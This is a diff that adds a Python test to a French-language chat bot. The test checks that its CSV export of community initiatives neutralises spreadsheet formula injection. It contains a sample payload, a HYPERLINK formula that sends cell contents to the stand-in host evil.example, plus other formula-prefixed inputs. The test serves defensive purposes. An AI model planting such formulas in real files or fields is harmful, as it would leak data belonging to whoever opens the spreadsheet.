@@ -145,3 +145,14 @@ main = "!main:example.org"
                                "--config", str(config), "-f", "md"],
                               capture_output=True, text=True, timeout=60)
     assert markdown.returncode == 0 and "## Énergie" in markdown.stdout
+
+
+async def test_formulas_in_an_initiative_are_text_in_the_csv(bot: Harness) -> None:
+    contact = '=HYPERLINK("https://evil.example/?c="&B2,"Écrire")'
+    await ask(bot, "!initiative ajouter +Jardin partagé --theme environnement --commune -Gap "
+                   f"--description @SOMME(1;2) --contact {contact}")
+    async with bot.db.transaction() as repos:
+        items = await repos.initiatives.listing()
+    [row] = list(csv.reader(io.StringIO(export_csv(items, Translator("fr")))))[1:]
+    assert row[1:6] == ["'+Jardin partagé", "environnement et biodiversité", "'-Gap", "'@SOMME(1;2)",
+                        "'" + contact]
